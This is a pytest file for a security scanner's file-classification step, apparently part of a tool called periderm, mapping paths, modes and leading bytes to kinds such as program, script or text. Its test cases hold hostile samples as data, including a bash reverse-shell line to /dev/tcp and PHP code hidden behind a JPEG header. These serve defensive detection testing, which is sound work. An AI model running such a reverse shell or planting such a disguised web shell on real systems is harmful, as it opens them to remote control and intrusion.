"""What kind of file a content rule looks into."""

from __future__ import annotations

import pytest

from periderm.engines.content.judging import Kind
from periderm.engines.content.kinds import kind_of

CASES = [
    ("usr/bin/x", 0o755, b"\x7fELF\x02", Kind.PROGRAM),
    ("srv/x", 0o644, b"#!/bin/sh\n", Kind.SCRIPT),
    ("srv/x.PHP", 0o644, b"<?php", Kind.SCRIPT),
    ("srv/x.jpg", 0o644, b"\xff\xd8\0\0<?php system(1);", Kind.SCRIPT),
    ("srv/x.jpg", 0o644, b"\xff\xd8\0\0 a picture", None),
    ("srv/x.bin", 0o644, b"\0\0<?php", None),
    ("etc/cron.d/x", 0o644, b"* * * * * root x\n", Kind.SCRIPT),
    ("root/.bashrc", 0o644, b"alias x=y\n", Kind.SCRIPT),
    ("srv/run", 0o755, b"echo a\n", Kind.SCRIPT),
    ("srv/NOTE.txt", 0o755, b"All your files\n", Kind.TEXT),
    ("srv/README.md", 0o644, b"bash -i >& /dev/tcp/1.2.3.4/5 0>&1\n", None),
    ("usr/share/doc/x/example", 0o644, b"text", None),
    ("srv/settings", 0o644, b"<?php echo 1;", Kind.SCRIPT),
]


@pytest.mark.parametrize(("path", "mode", "data", "kind"), CASES, ids=[f"{path} {data[:6]!r}" for path, _, data, _ in CASES])
def test_kinds(path: str, mode: int, data: bytes, kind: Kind | None) -> None:
    """By name, mode, place and first bytes; what nobody runs is none."""
    assert kind_of(path, mode, data) is kind
